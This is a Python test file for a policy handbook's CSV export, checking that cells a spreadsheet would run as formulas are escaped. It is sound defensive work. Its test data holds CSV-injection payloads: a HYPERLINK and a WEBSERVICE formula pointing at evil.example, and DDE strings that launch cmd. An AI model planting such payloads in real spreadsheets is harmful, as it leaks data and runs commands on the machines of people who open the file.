"""follow.csv holds text from policy files, and people open it in spreadsheets: a cell that a
spreadsheet would run as a formula is written as text (OWASP's CSV injection advice), however the
spreadsheet splits a line (comma, semicolon, tab), and the file stays RFC 4180 CSV, every cell
quoted, that the csv module reads back exactly."""

from __future__ import annotations

import csv
import io
import json
import re
import textwrap
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from policy_handbook.policy.loader import load_policies
from policy_handbook.policy.model import Policy
from policy_handbook.site.follow_pages import CSV_COLUMNS, csv_bytes

SIGNS = "=+-@＝＋－＠"  # full-width forms too: spreadsheets set for CJK input read ＝ as =
FORMULA_STARTS = [*SIGNS, "\t", "\r"]
SEPARATORS = [",", ";", "\t", "\r", "\n"]  # where a spreadsheet may start a new cell


def yaml_string(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar


def policy_file(tmp_path: Path, organisation: str, kinds: list[tuple[str, list[dict]]]) -> Policy:
    """A policy written as YAML and read by the loader, as a volunteer's file would be."""
    lines = []
    for n, (kind, accounts) in enumerate(kinds):
        lines += [f"    - id: kind-{n}", f"      name: {yaml_string(kind)}"]
        if accounts:
            lines.append("      accounts:")
        for account in accounts:
            first = True
            for key, value in account.items():
                lines.append(f"        {'- ' if first else '  '}{key}: {yaml_string(value)}")
                first = False
    text = (
        textwrap.dedent(
            f"""\
        organisation:
          name: {yaml_string(organisation)}
          short_name: TestOrg
          what_it_is: An organisation for tests.
        policy:
          adopted: "2024-01"
          review_due: "2030-01"
        channels:
          x: {{name: X, kind: twitter}}
        sections:
          - {{id: about, title: About}}
        follow:
          platforms: [x]
          kinds:
        """
        )
        + "\n".join(lines)
        + "\n"
    )
    folder = tmp_path / "policies"
    folder.mkdir()
    (folder / "testorg.yaml").write_text(text, encoding="utf-8")
    return load_policies(folder).policies[0].policy


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


HOSTILE_ACCOUNT = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click for the rota")',
    "platform": "+1+cmd|' /C calc'!A0",
    "handle": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "https://example.org/=1+1",
    "why": '-2+3, then\r\n=WEBSERVICE("https://evil.example")',
}


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path):
    policy = policy_file(
        tmp_path,
        "=1+1 Organisation",
        [("\tTabbed kind", [HOSTILE_ACCOUNT]), ("\rReturned kind", [{"name": "-10"}])],
    )
    rows = rows_of(csv_bytes(policy))
    assert rows == [
        list(CSV_COLUMNS),
        [
            "'=1+1 Organisation",
            "'\tTabbed kind",
            "'" + HOSTILE_ACCOUNT["name"],
            "'" + HOSTILE_ACCOUNT["platform"],
            "'" + HOSTILE_ACCOUNT["handle"],
            HOSTILE_ACCOUNT["url"],  # starts with "https", so it is left alone
            "'-2+3, then\r\n'=WEBSERVICE(\"https://evil.example\")",  # after each line break too
        ],
        ["'=1+1 Organisation", "'\rReturned kind", "'-10", "", "", "", ""],
    ]


def test_a_handle_starting_with_at_is_quoted_too(tmp_path):
    # "@name" is how handles are written, but "@SUM(…)" is a formula: a spreadsheet cannot
    # tell them apart, so every cell starting with @ gets the quote.
    policy = policy_file(tmp_path, "Org", [("NHS", [{"name": "NHS England", "handle": "@NHS"}])])
    assert rows_of(csv_bytes(policy))[1][4] == "'@NHS"


def test_full_width_formula_signs_are_quoted_as_their_ascii_forms_are(tmp_path):
    # Excel and LibreOffice set for Japanese or Chinese input take ＝ (U+FF1D) for =.
    policy = policy_file(
        tmp_path, "Org", [("Kind", [{"name": "＝HYPERLINK(1)", "handle": "＠NHS; ＋1"}])]
    )
    row = rows_of(csv_bytes(policy))[1]
    assert row[2] == "'＝HYPERLINK(1)" and row[4] == "'＠NHS; '＋1"


def test_ordinary_text_and_formula_characters_later_in_a_cell_are_left_alone(tmp_path):
    account = {
        "name": "Café = good",
        "platform": "=not first",
        "handle": "x@y",
        "why": "'Already quoted', and 1+1=2 - fine",
    }
    policy = policy_file(tmp_path, 'Org, "Quoted"', [("Kind - one", [account])])
    assert rows_of(csv_bytes(policy))[1] == [
        'Org, "Quoted"',
        "Kind - one",
        "Café = good",
        "'=not first",
        "x@y",
        "",
        "'Already quoted', and 1+1=2 - fine",
    ]


def test_the_file_stays_rfc_4180_with_every_cell_quoted_quotes_doubled_and_crlf_records(
    tmp_path,
):
    policy = policy_file(tmp_path, "Org", [("Kind", [{"name": '=A1,"B"', "why": "a\r\nb"}])])
    data = csv_bytes(policy)
    assert data == (
        b'"organisation","kind","name","platform","handle","url","why"\r\n'
        b'"Org","Kind","\'=A1,""B""","","","","a\r\nb"\r\n'
    )


def test_a_formula_after_a_semicolon_comma_tab_or_line_break_is_written_as_text(tmp_path):
    # Excel in most of Europe splits on ";": unquoted, "Local news;=1+1" was two cells, the
    # second a formula. Now the cell is quoted and the piece after each separator is text too.
    account = {
        "name": 'Local news;=HYPERLINK("https://evil.example")',
        "platform": "Facebook; +1",
        "handle": "news,@SUM(1)",
        "why": "one\ttwo;\t-3\nfour",
    }
    policy = policy_file(tmp_path, "Org; =1", [("Kind", [account])])
    data = csv_bytes(policy)
    assert data.split(b"\r\n")[1].startswith(b'"Org; \'=1","Kind","Local news;\'=HYPERLINK(')
    assert rows_of(data)[1] == [
        "Org; '=1",
        "Kind",
        'Local news;\'=HYPERLINK("https://evil.example")',
        "Facebook; '+1",
        "news,'@SUM(1)",
        "",
        "one\ttwo;\t'-3\nfour",
    ]
    # However a spreadsheet splits the line, no piece starts a formula.
    for line in data.decode("utf-8").split("\r\n"):
        for piece in re.split(r"[,;\t\n]", line):
            assert piece.lstrip(' \t"')[:1] not in ("=", "+", "-", "@"), (piece, line)


def policy_with(cells: list[str]) -> Policy:
    organisation, kind, name, platform, handle, why = cells
    return Policy.model_validate(
        {
            "organisation": {"name": organisation, "short_name": "T", "what_it_is": "Tests."},
            "policy": {"adopted": "2024-01", "review_due": "2030-01"},
            "sections": [{"id": "about", "title": "About"}],
            "follow": {
                "kinds": [
                    {
                        "id": "k",
                        "name": kind,
                        "accounts": [
                            {"name": name, "platform": platform, "handle": handle, "why": why}
                        ],
                    }
                ]
            },
        }
    )


piece = st.text(alphabet=st.sampled_from(list("ab =+-@＝＠'\" ") + SEPARATORS), max_size=6)
cell = st.one_of(
    st.text(min_size=1, max_size=12),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=12)).map("".join),
    st.lists(piece, min_size=1, max_size=4).map("".join).filter(bool),
)


def expected(original: str) -> str:
    """The rule, walked character by character: a ' before = + - @ at the start or after a
    separator (spaces and tabs between), and before a cell that starts with a tab or CR."""
    out, at_start = [], True
    for char in original:
        if at_start and char in SIGNS:
            out.append("'")
        out.append(char)
        at_start = char in SEPARATORS or (at_start and char in " \t")
    text = "".join(out)
    return "'" + text if text[:1] in ("\t", "\r") else text


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(cell, min_size=6, max_size=6))
def test_any_cell_reads_back_as_written_with_a_quote_exactly_where_it_could_run(cells):
    data = csv_bytes(policy_with(cells))
    rows = rows_of(data)
    assert len(rows) == 2 and rows[0] == list(CSV_COLUMNS)
    written = rows[1][:5] + rows[1][6:]  # the url column stays empty here
    for original, read in zip(cells, written, strict=True):
        assert read == expected(original)
        assert read[:1] not in FORMULA_STARTS
        assert read.replace("'", "") == original.replace("'", "")  # only quotes were added
        for part in re.split(r"[,;\t\r\n]", read):
            assert part.lstrip(" \t")[:1] not in tuple(SIGNS)
    assert all(line.startswith('"') for line in data.decode("utf-8").split("\r\n")[:2])
